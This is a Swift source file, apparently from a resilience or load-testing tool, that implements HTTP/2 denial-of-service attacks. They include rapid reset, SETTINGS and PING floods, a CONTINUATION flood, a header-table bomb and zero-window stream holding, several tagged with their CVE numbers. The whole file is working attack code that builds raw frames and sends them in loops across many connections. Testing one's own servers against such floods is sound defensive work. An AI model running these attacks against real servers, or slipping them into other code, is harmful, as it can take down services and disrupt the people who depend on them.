/// Frames that cost a server more than their sender, each with a name of its own by now.
enum HTTP2Attacks: AttackFamily {
    static let attacks = [
        frames("rapid-reset", "requests that are reset at once (CVE-2023-44487)") { number in
            let stream = UInt32(2 * number + 1)
            return HTTP2Frame.head(.post, "/queries", stream: stream).bytes
                + HTTP2Frame(kind: .resetStream, stream: stream, payload: [0, 0, 0, 8]).bytes
        },
        frames("reset-with-content", "requests with a part of their content that are reset") { number in
            let stream = UInt32(2 * number + 1)
            return HTTP2Frame.head(.post, "/queries", stream: stream).bytes
                + HTTP2Frame(kind: .data, stream: stream, payload: Array(repeating: 7, count: 4_000)).bytes
                + HTTP2Frame(kind: .resetStream, stream: stream, payload: [0, 0, 0, 8]).bytes
        },
        frames("endless-streams", "ever new streams of requests that never end") { number in
            HTTP2Frame.head(.post, "/queries", stream: UInt32(2 * number + 1)).bytes
        },
        frames("settings", "SETTINGS that all want to be acknowledged (CVE-2019-9515)") { _ in
            HTTP2Frame.settings(4, 65_535).bytes
        },
        frames("ping", "PING that all want to be answered (CVE-2019-9512)") { _ in
            HTTP2Frame(kind: .ping, payload: Array(repeating: 1, count: 8)).bytes
        },
        frames("window-update", "WINDOW_UPDATE by one byte", first: openStream) { number in
            HTTP2Frame.windowUpdate(1, stream: number.isMultiple(of: 2) ? 0 : 1).bytes
        },
        frames("priority", "PRIORITY of streams that are never used") { number in
            HTTP2Frame(
                kind: .priority, stream: UInt32(2 * number + 1), payload: [0, 0, 0, 0, 16]
            ).bytes
        },
        frames(
            "continuation", "a head that never ends (CVE-2024-27316)",
            first: HTTP2Frame.head(.get, "/health", stream: 1, flags: HTTP2Frame.endStream).bytes
        ) { number in
            HTTP2Frame(
                kind: .continuation, stream: 1, payload: [0x00] + HTTP2Frame.text("x\(number)") + [0x00]
            ).bytes
        },
        frames(
            "header-bomb", "a long field in the header table, named thousands of times per head",
            first: table
        ) { number in
            HTTP2Frame(
                kind: .headers, flags: HTTP2Frame.endHeaders | HTTP2Frame.endStream,
                stream: UInt32(2 * number + 3),
                payload: [HTTP2Frame.Method.get.rawValue, 0x86, 0x84] + Array(repeating: 0xBE, count: 16_000)
            ).bytes
        },
        Attack(
            name: "http2.zero-window",
            summary: "100 streams on each of 50 connections that never open the window for an answer",
            limits: AttackLimits(cost: .perRequest(0.2)), run: zeroWindow),
    ]

    private static let openStream = HTTP2Frame.head(.post, "/queries", stream: 1).bytes

    /// A head that puts a field of 4 000 bytes into the dynamic table, which then is number 62 (RFC 7541, 2.3.3).
    private static var table: [UInt8] {
        // Literal with indexing; a length of 127 and more continues in groups of seven bits.
        let field: [UInt8] =
            [0x40] + HTTP2Frame.text("x") + [0x7F, 0xA1, 0x1E] + Array(repeating: 0x61, count: 4_000)
        return HTTP2Frame(
            kind: .headers, flags: HTTP2Frame.endHeaders | HTTP2Frame.endStream, stream: 1,
            payload: [HTTP2Frame.Method.get.rawValue, 0x86, 0x84] + field
        ).bytes
    }

    /// Sends frames over four connections, and begins again on a new one when the server closes.
    private static func frames(
        _ name: String, _ summary: String, first: [UInt8] = [],
        next: @escaping @Sendable (_ number: Int) -> [UInt8]
    ) -> Attack {
        Attack(name: "http2.\(name)", summary: summary, limits: AttackLimits(cost: .perByte(2))) { target in
            target.together(4) { _ in
                while !target.isOver { send(target, first, next) }
            }
        }
    }

    /// Sends what one connection takes.
    private static func send(_ target: Target, _ first: [UInt8], _ next: (Int) -> [UInt8]) {
        guard let connection = target.connect() else {
            target.log.answered("no connection")
            return
        }
        connection.send(HTTP2Frame.preface + first, until: target.deadline)
        var number = 0
        var received = RawConnection.Received()
        while !target.isOver, !received.isClosed, !HTTP2Frame.has(.goAway, in: received.bytes) {
            let frames = (number..<number + 100).flatMap(next)
            number += 100
            let sent = connection.send(frames, until: target.deadline)
            target.log.tried(100, byteCount: sent)
            // Whoever does not read what is answered is soon left alone.
            received = connection.receiveNow()
            if sent < frames.count { break }
        }
        // Frames that are on their way when the server has enough come to nothing.
        target.log.answered(target.isOver && !received.isClosed ? "taken" : "closed")
    }

    private static func zeroWindow(_ target: Target) {
        var connections: [RawConnection] = []
        while connections.count < 50, !target.isOver, let connection = target.connect() {
            var frames = HTTP2Frame.preface + HTTP2Frame.settings(4, 0).bytes
            for stream in 0..<100 {
                frames +=
                    HTTP2Frame.head(
                        .get, "/.well-known/private-token-issuer-directory", stream: UInt32(2 * stream + 1),
                        flags: HTTP2Frame.endHeaders | HTTP2Frame.endStream
                    ).bytes
            }
            target.log.tried(100, byteCount: connection.send(frames, until: target.deadline))
            connections.append(connection)
        }
        target.wait(until: target.deadline)
        for connection in connections {
            target.log.answered(connection.receiveNow().isClosed ? "closed" : "open")
        }
    }
}
